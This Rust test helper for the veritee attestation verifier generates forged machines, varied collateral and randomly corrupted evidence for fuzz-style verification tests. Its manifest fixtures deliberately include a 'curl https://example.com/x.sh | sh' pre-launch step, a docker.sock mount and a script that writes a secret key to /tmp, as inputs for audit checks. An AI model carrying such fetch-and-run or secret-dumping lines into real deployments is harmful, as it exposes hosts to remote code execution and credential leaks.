//! What is drawn: machines under one root, their collateral in several ages and states, what an honest operator mixes up
//! and what a dishonest one breaks.

use veritee_model::evidence::{EventLogFormat, EventLogItem, RecordedBy};
use veritee_model::{Budget, Evidence, Item, Kind, UnixTime};
use veritee_policy::Policy;
use veritee_quote::{Origin, TrustRoot};
use veritee_testkit::dstack::report_data::Binding;
use veritee_testkit::dstack::{ForgedMachine, Machine};
use veritee_testkit::pki::time;
use veritee_testkit::{Role, Universe};
use veritee_verify::{Engine, Expected, Grounds, Request};

/// A small generator of numbers (splitmix64): the same seed draws the same on every machine.
pub(crate) struct Dice(u64);

impl Dice {
    pub(crate) const fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x1234_5678_9abc_def0)
    }

    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % u64::try_from(bound).unwrap()).unwrap()
    }

    fn once_in(&mut self, times: usize) -> bool {
        self.below(times) == 0
    }

    fn of<'a, T>(&mut self, values: &'a [T]) -> &'a T {
        &values[self.below(values.len())]
    }
}

/// Everything that is drawn from.
pub(crate) struct Pool {
    root: TrustRoot,
    /// Of one host and one PKI, by compose and binding.
    machines: Vec<(ForgedMachine, String)>,
    /// Sets of collateral about that host: fresh, newer, older, over, with revocations, damaged, no collateral at all.
    sets: Vec<Vec<u8>>,
    /// The set among them that revokes the host.
    revoking: usize,
}

const COMPOSES: [&str; 3] = [
    r#"{"manifest_version":2,"name":"one","runner":"docker-compose","docker_compose_file":"services:\n  app:\n    image: nginx:latest\n    environment:\n      - API_URL=${API_URL}\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n","kms_enabled":true,"gateway_enabled":true,"public_logs":true,"allowed_envs":["API_URL"],"pre_launch_script":"curl https://example.com/x.sh | sh\n"}"#,
    r#"{"manifest_version":2,"name":"two","name":"twice","runner":"docker-compose","docker_compose_file":"services: {}\n"}"#,
    r#"{"manifest_version":2,"name":"three","runner":"bash","bash_script":"echo $SECRET_KEY > /tmp/x\n","kms_enabled":true,"allowed_envs":["SECRET_KEY"]}"#,
];

fn machine(compose: Option<&str>) -> Machine {
    let machine = Machine::new(1);
    compose.map_or_else(|| machine.clone(), |compose| machine.clone().app_compose(compose))
}

fn set(change: impl FnOnce(Universe) -> Universe) -> Vec<u8> {
    change(Machine::new(1).universe).forge().collateral_json().into_bytes()
}

impl Pool {
    pub(crate) fn new() -> Self {
        let mut machines = Vec::new();
        for compose in [None].into_iter().chain(COMPOSES.iter().map(|compose| Some(*compose))) {
            let ra_tls = machine(compose).forge();
            let nonce =
                machine(compose).change(|machine| machine.binding = Binding::Raw(vec![7; 32])).forge();
            let pem = ra_tls.ra_tls_pem.clone();
            machines.push((ra_tls, pem.clone()));
            machines.push((nonce, pem));
        }
        let old = machine(None).universe(|universe| {
            universe.sgx_extension(|it| {
                it.components = veritee_testkit::universe::OUTDATED_SVNS.map(u16::from).to_vec();
            })
        });
        let old = old.forge();
        let pem = old.ra_tls_pem.clone();
        machines.push((old, pem));
        let damaged = {
            let mut bytes = set(|it| it);
            let at = bytes
                .windows(8)
                .position(|it| it == b"tcbType\\")
                .or_else(|| bytes.windows(7).position(|it| it == b"tcbType"));
            bytes[at.unwrap()] = b'T';
            bytes
        };
        let sets = vec![
            set(|it| it),
            set(|it| it.tcb_info(|info| info.evaluation_number += 1)),
            set(|it| it.tcb_info(|info| info.levels[0].status = "OutOfDate".into())),
            set(|it| {
                it.tcb_info(|info| {
                    (info.issue_date, info.next_update) =
                        ("2026-08-01T00:00:00Z".into(), "2026-09-01T00:00:00Z".into());
                })
            }),
            set(|it| it.revoke(Role::Pck)),
            set(|it| it.revoke(Role::TcbSigner)),
            set(|it| it.tcb_info(|info| info.fmspc = "000000000001".into())),
            damaged,
            b"{\"nothing\":1}".to_vec(),
        ];
        let root = TrustRoot::from_der(&machines[0].0.platform.root_der).unwrap();
        Self { root, machines, sets, revoking: 4 }
    }

    /// The evidence of somebody else, which may reveal something.
    pub(crate) fn lesson(&self, dice: &mut Dice) -> Evidence {
        let mut lesson = Evidence::default();
        // Seldom: what it reveals holds for the rest of the run.
        if dice.once_in(3) {
            lesson.collateral.push(Item::new(dice.of(&self.sets).clone(), "bystander.json"));
        }
        lesson
    }

    pub(crate) fn revoking(&self) -> Evidence {
        let mut lesson = Evidence::default();
        lesson.collateral.push(Item::new(self.sets[self.revoking].clone(), "bystander.json"));
        lesson
    }
}

/// Policy, time, and what the judging side has.
pub(crate) struct Rules {
    root: TrustRoot,
    policy: Policy,
    given: Vec<(Item, Origin)>,
    pub(crate) as_of: UnixTime,
}

fn policy(root: &TrustRoot, more: &str) -> Policy {
    let text = format!(
        "schema = \"veritee/policy/v1\"\nname = \"drawn\"\n[root]\nspki_sha256 = \"{}\"\nreason = \"drawn for a test\"\n{more}",
        root.spki_sha256()
    );
    Policy::parse(&text).unwrap_or_else(|error| panic!("{error}\n{text}"))
}

impl Rules {
    pub(crate) fn plain(pool: &Pool) -> Self {
        let as_of = time(veritee_testkit::universe::AS_OF);
        Self { root: pool.root.clone(), policy: policy(&pool.root, ""), given: Vec::new(), as_of }
    }

    pub(crate) fn draw(pool: &Pool, dice: &mut Dice) -> Self {
        let mores = [
            "",
            "[collateral]\nallow_expired = true\nreason = \"drawn for a test\"\n",
            "[[audit.allow]]\nrule = \"DP-IMG-001\"\nreason = \"drawn for a test\"\n",
        ];
        let origins = [Origin::Caller, Origin::Store, Origin::Service];
        let given = (0..dice.below(4))
            .map(|number| {
                (Item::new(dice.of(&pool.sets).clone(), format!("given-{number}.json")), *dice.of(&origins))
            })
            .collect();
        let times = [
            veritee_testkit::universe::AS_OF,
            veritee_testkit::universe::AS_OF,
            "2026-11-20T00:00:00Z",
            "2026-09-20T00:00:00Z",
        ];
        Self {
            root: pool.root.clone(),
            policy: policy(&pool.root, dice.of::<&str>(&mores)),
            given,
            as_of: time(dice.of::<&str>(&times)),
        }
    }

    pub(crate) fn grounds(&self, budget: &Budget) -> Grounds {
        let mut grounds = Grounds::new(&self.root, budget);
        grounds.give_all(self.given.iter().cloned());
        grounds
    }

    pub(crate) fn request<'a>(
        &'a self,
        drawn: &'a Drawn,
        grounds: &'a Grounds,
        budget: &'a Budget,
    ) -> Request<'a> {
        Request {
            kind: Kind::Machine,
            evidence: &drawn.evidence,
            policy: &self.policy,
            policy_sha256: None,
            as_of: self.as_of,
            grounds,
            expected: &Expected::Nothing,
            engine: Engine::Native,
            fail_on: None,
            image: None,
            asked: &[],
            gpu: veritee_verify::GpuGiven::default(),
            chain: veritee_verify::ChainGiven::default(),
            audit: veritee_verify::audit::Given::default(),
            budget,
            tool_version: "0",
        }
    }
}

/// One evidence, and in words how it was drawn.
pub(crate) struct Drawn {
    pub(crate) evidence: Evidence,
    words: String,
}

impl core::fmt::Debug for Drawn {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.write_str(&self.words)
    }
}

fn presented(forged: &ForgedMachine, pem: &str, number: usize) -> Evidence {
    let item = |bytes: &[u8], name: &str| Some(Item::new(bytes.to_vec(), format!("line {number}#/{name}")));
    let log = item(forged.event_log_json().as_bytes(), "event_log").unwrap();
    Evidence {
        quote: item(&forged.platform.quote, "quote"),
        event_log: Some(EventLogItem { item: log, format: EventLogFormat::DstackJson }),
        app_compose: item(&forged.app_compose, "app_compose"),
        vm_config: item(forged.vm_config.as_bytes(), "vm_config"),
        certificates: item(pem.as_bytes(), "certificates"),
        ..Evidence::default()
    }
}

impl Drawn {
    /// A genuine machine with its collateral.
    pub(crate) fn plain(pool: &Pool) -> Self {
        let (forged, pem) = &pool.machines[0];
        let mut evidence = presented(forged, pem, 1);
        evidence.collateral.push(Item::new(pool.sets[0].clone(), "plain.json"));
        Self { evidence, words: "plain".to_owned() }
    }

    pub(crate) fn draw(pool: &Pool, dice: &mut Dice) -> Self {
        let (which, number) = (dice.below(pool.machines.len()), dice.below(1000));
        let (forged, pem) = &pool.machines[which];
        let mut evidence = presented(forged, pem, number);
        let mut words = format!("machine {which}, line {number}");
        for _ in 0..dice.below(4) {
            let (set, name) = (dice.below(pool.sets.len()), dice.below(6));
            words.push_str(&format!(", set {set} as {name}"));
            evidence.collateral.push(Item::new(pool.sets[set].clone(), format!("line {number}#/{name}")));
        }
        let flip = |item: &mut Option<Item>, dice: &mut Dice| {
            if let Some(item) = item {
                let at = dice.below(item.bytes.len());
                item.bytes[at] ^= 1 << dice.below(7);
            }
        };
        let fault = dice.below(14);
        match fault {
            0 => flip(&mut evidence.quote, dice),
            1 => flip(&mut evidence.app_compose, dice),
            2 => flip(&mut evidence.certificates, dice),
            3 => flip(&mut evidence.vm_config, dice),
            4 => evidence.certificates = None,
            5 => evidence.event_log = None,
            6 => {
                evidence.app_compose =
                    Some(Item::new(dice.of(&pool.machines).0.app_compose.clone(), "other.json"));
            }
            7 => {
                evidence.certificates =
                    Some(Item::new(pool.machines[dice.below(pool.machines.len())].1.clone(), "other.pem"));
            }
            8 => {
                // A quote alone.
                let collateral = std::mem::take(&mut evidence.collateral);
                evidence = Evidence { quote: evidence.quote.take(), collateral, ..Evidence::default() };
            }
            _ => {}
        }
        words.push_str(&format!(", fault {fault}"));
        Self { evidence, words }
    }

    /// The same with what an earlier run has recorded in it, or with a file that is no collateral.
    pub(crate) fn recorded(mut self, pool: &Pool, dice: &mut Dice) -> Self {
        for _ in 0..dice.below(3) {
            let by = *dice.of(&[RecordedBy::Judge, RecordedBy::Judge, RecordedBy::Bystander]);
            self.evidence.record(by, Item::new(dice.of(&pool.sets).clone(), "recorded.json"));
            self.words.push_str(&format!(", recorded by {by:?}"));
        }
        if dice.below(4) == 0 {
            self.evidence.collateral.push(Item::new(*b"{", "broken.json"));
            self.words.push_str(", one that is broken");
        }
        self
    }
}
